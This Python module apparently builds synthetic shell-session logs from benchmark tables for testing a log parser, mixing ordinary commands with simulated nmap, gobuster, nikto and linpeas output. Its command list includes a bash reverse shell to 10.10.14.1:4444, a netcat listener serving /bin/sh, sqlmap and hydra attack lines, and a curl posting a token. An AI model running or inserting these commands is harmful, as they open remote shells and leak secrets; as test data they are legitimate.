"""Session logs derived from the driver tables.

Each view is one SQL text that Spark and DuckDB read alike, so queries and
their checks start from the same rows.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from shelltrace.functions import text as X
from shelltrace.session import prepare, spread

# One command per event, one session per user.
SESSION_SQL = """
SELECT event_id AS seq, ts,
       concat('u', CAST(user_id AS STRING)) AS session_id,
       concat('tty', CAST(event_id % 2 AS STRING)) AS terminal_id,
       concat('/home/u', CAST(user_id AS STRING)) AS cwd,
       CASE event_type
         WHEN 'view' THEN 'ls -la'
         WHEN 'click' THEN concat('sudo nmap -sV 10.10.', CAST(user_id % 256 AS STRING), '.', CAST(event_id % 4 AS STRING))
         WHEN 'signup' THEN concat('go test ./pkg', CAST(event_id % 2 AS STRING))
         WHEN 'purchase' THEN 'cat scan.txt'
         ELSE concat('curl -d token=', CAST(event_id AS STRING), ' http://svc') END AS stdin,
       CASE event_type
         WHEN 'click' THEN concat('Starting Nmap', chr(10), 'Nmap scan report for h', CAST(user_id AS STRING), chr(10),
                                  '22/tcp open  ssh', chr(10), '8080/tcp closed http', chr(10), 'Nmap done')
         WHEN 'purchase' THEN concat('Nmap scan report for x', chr(10), 'Not shown: 9', chr(10), '80/tcp open http')
         WHEN 'signup' THEN concat(chr(27), '[32mok', chr(27), '[0m 10%', chr(13), 'ok 100%', chr(13), chr(10))
         ELSE '' END AS stdout,
       '' AS stderr,
       CAST(CASE WHEN event_type = 'error' THEN 1 ELSE 0 END AS BIGINT) AS exit_code,
       CAST(floor(value * 100) AS BIGINT) AS duration_ms
FROM events
"""

# The same log with a session per user and week, long and short ones.
_USER = "concat('u', CAST(user_id AS STRING)) AS session_id"
_WEEK = (
    "concat('u', CAST(user_id AS STRING), '-w',"
    " CAST(CAST(floor(day(ts) / 7) AS BIGINT) AS STRING)) AS session_id"
)


def weekly(sql: str) -> str:
    sql = sql.replace(_USER, _WEEK)
    return sql.replace("GROUP BY user_id", "GROUP BY user_id, floor(day(ts) / 7)")


#: The one of these sessions that reports see without its id.
SESSION_WITHOUT_ID = "u3-w1"

# Many shapes of command lines over the same sessions.
COMMAND_SQL = """
SELECT event_id AS seq, concat('u', CAST(user_id AS STRING)) AS session_id,
       CASE event_id % 29
         WHEN 0 THEN '   '
         WHEN 1 THEN concat('cd /srv/', CAST(event_id AS STRING))
         WHEN 2 THEN '/bin/ls -l'
         WHEN 3 THEN 'sudo ls'
         WHEN 4 THEN concat(chr(9), 'history  50 ')
         WHEN 5 THEN concat('sudo -u root nohup nikto -h 10.129.3.', CAST(event_id % 255 AS STRING))
         WHEN 6 THEN '/usr/bin/git diff --stat'
         WHEN 7 THEN 'git commit -m wip'
         WHEN 8 THEN concat('timeout 10 nmap 10.10.1.', CAST(event_id % 255 AS STRING))
         WHEN 9 THEN concat('env A=', CAST(event_id AS STRING), ' npm test')
         WHEN 10 THEN 'time -p gobuster dir -u http://h'
         WHEN 11 THEN 'bash -i >& /dev/tcp/10.10.14.1/4444 0>&1'
         WHEN 12 THEN 'python3 -c import socket,os'
         WHEN 13 THEN 'nc -lvnp 4444 -e /bin/sh'
         WHEN 14 THEN 'docker build -t app .'
         WHEN 15 THEN 'npm  install'
         WHEN 16 THEN 'go vet ./...'
         WHEN 17 THEN 'pytest -x tests'
         WHEN 18 THEN concat('sqlmap -u http://h/?id=', CAST(event_id AS STRING))
         WHEN 19 THEN 'hydra -l admin ssh://h'
         WHEN 20 THEN '--version -x cargo build'
         WHEN 21 THEN 'nice -n 5 make all'
         WHEN 22 THEN '/opt/tools/// x'
         WHEN 23 THEN '///'
         WHEN 24 THEN '-a'
         WHEN 25 THEN '-é kubectl get pods'
         WHEN 26 THEN concat('echo ', CAST(event_id AS STRING))
         WHEN 27 THEN 'pwd'
         ELSE 'lsof -i' END AS stdin
FROM events
"""

# Session metadata: a session starts with its first event.
META_SQL_SPARK = """
SELECT concat('u', CAST(user_id AS STRING)) AS session_id,
       date_format(min(ts), "yyyy-MM-dd'T'HH:mm:ss'Z'") AS started_at,
       'local-model' AS model, '0.1.0' AS version
FROM events GROUP BY user_id
"""
META_SQL_DUCKDB = """
SELECT concat('u', CAST(user_id AS STRING)) AS session_id,
       strftime(min(ts), '%Y-%m-%dT%H:%M:%SZ') AS started_at,
       'local-model' AS model, '0.1.0' AS version
FROM events GROUP BY user_id
"""

# Whole documents as the output of a tool: sentence ends become tool lines.
TOOL_OUTPUT_SQL = {
    "nmap": """concat('Nmap scan report for h', CAST(doc_id AS STRING), chr(10),
        replace(text, '. ', concat(chr(10), ' ', CAST(doc_id % 9 AS STRING), '/tcp open  x', chr(10),
        '| script', chr(10), '443/udp  closed https', chr(10), 'OS details: y', chr(10), 'Running late', chr(10))))""",
    "gobuster": """replace(text, '. ', concat(' (Status: ', CAST(200 + doc_id % 4 * 101 AS STRING), ')', chr(10),
        CAST(200 + doc_id % 5 * 101 AS STRING), '  GET ', chr(10)))""",
    "ffuf": """replace(text, ' the ', concat('  [Status:', CAST(200 + doc_id % 4 * 101 AS STRING), ', Size: 1]  ', chr(10), chr(9)))""",
    "nikto": """concat(replace(text, '. ', concat(chr(10), '  + finding ', CAST(doc_id AS STRING), chr(9), chr(10))), chr(10), '+end')""",
    "ps": """concat('USER PID COMMAND', chr(10), replace(text, '. ', concat(' [kworker/', CAST(doc_id % 3 AS STRING), ']', chr(10), 'one', chr(10), chr(10))))""",
    "git": """CASE WHEN doc_id % 3 = 0 THEN text ELSE replace(text, '. ', concat(chr(10), 'diff --git a/x b/x', chr(10), '--- a/x', chr(10),
        '+++ b/x', chr(10), '@@ -1 +1 @@', chr(10), '-old', chr(10))) END""",
    "linpeas": """CASE WHEN doc_id % 4 = 0 THEN text ELSE replace(text, '. ', concat(chr(10), '╔══════ part ', CAST(doc_id % 7 AS STRING), ' ', chr(10),
        CASE WHEN doc_id % 3 = 0 THEN ' CVE-2024-1 ' ELSE ' nothing ' END, chr(10))) END""",
}
TOOL_OUTPUT_TEMPLATE = "SELECT doc_id, {output} AS stdout FROM documents"

# A tool per document, and the document as that tool's output.
_BY_TOOL = [
    (f"WHEN {i} THEN '{tool}'", f"WHEN {i} THEN {output}")
    for i, (tool, output) in enumerate(TOOL_OUTPUT_SQL.items())
]
ALL_TOOLS_SQL = f"""
SELECT doc_id,
    CASE doc_id % {len(_BY_TOOL)} {" ".join(t for t, _ in _BY_TOOL)} END AS tool,
    CASE doc_id % {len(_BY_TOOL)} {" ".join(o for _, o in _BY_TOOL)} END AS stdout
FROM documents
"""

# Documents with control sequences and overwritten lines.
ANSI_SQL = """
SELECT doc_id, concat(chr(27), ']0;title', chr(7),
    replace(replace(text, '. ', concat(chr(27), '[1;31m. ', chr(27), '[0m', chr(13), 'over', chr(13), chr(10))),
            ' the ', concat(chr(27), '(B', chr(27), '=', ' ', chr(13)))) AS stdout
FROM documents
"""

# Documents shown by file viewers.
VIEWER_SQL = """
SELECT doc_id,
    CASE doc_id % 3 WHEN 0 THEN 'cat' WHEN 1 THEN 'less' ELSE 'wc' END AS tool,
    CASE doc_id % 5
      WHEN 0 THEN concat(text, chr(10), 'Nmap scan report for h')
      WHEN 1 THEN concat('80/tcp  open http', chr(10), text)
      WHEN 2 THEN concat('╔══ LinPEAS by x', chr(10), text)
      WHEN 3 THEN concat('╔══', chr(10), 'linpeas ', text)
      ELSE text END AS stdout
FROM documents
"""


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    prepare(spark)
    return spread(spark.read.parquet(f"{sf_dir.rstrip('/')}/{name}.parquet"))


def _events(spark, sf_dir):
    events = table(spark, sf_dir, "events")
    return events.withColumn("ts", F.col("ts").cast("timestamp"))


def query(spark, sql: str, name: str, df: DataFrame) -> DataFrame:
    return spark.sql(sql.replace(f"FROM {name}", f"FROM {{{name}}}"), **{name: df})


def sessions_log(
    spark: SparkSession, sf_dir: str, sql: str = SESSION_SQL
) -> DataFrame:
    """The session view with its time as text."""
    log = query(spark, sql, "events", _events(spark, sf_dir))
    return log.withColumn("timestamp", X.utc_seconds(F.col("ts")))


def commands_log(spark: SparkSession, sf_dir: str) -> DataFrame:
    return query(spark, COMMAND_SQL, "events", _events(spark, sf_dir))


def session_meta(
    spark: SparkSession, sf_dir: str, sql: str = META_SQL_SPARK
) -> DataFrame:
    return query(spark, sql, "events", _events(spark, sf_dir))


def documents(spark: SparkSession, sf_dir: str, sql: str) -> DataFrame:
    return query(spark, sql, "documents", table(spark, sf_dir, "documents"))


def tool_output_sql(tool: str) -> str:
    return TOOL_OUTPUT_TEMPLATE.format(output=TOOL_OUTPUT_SQL[tool])
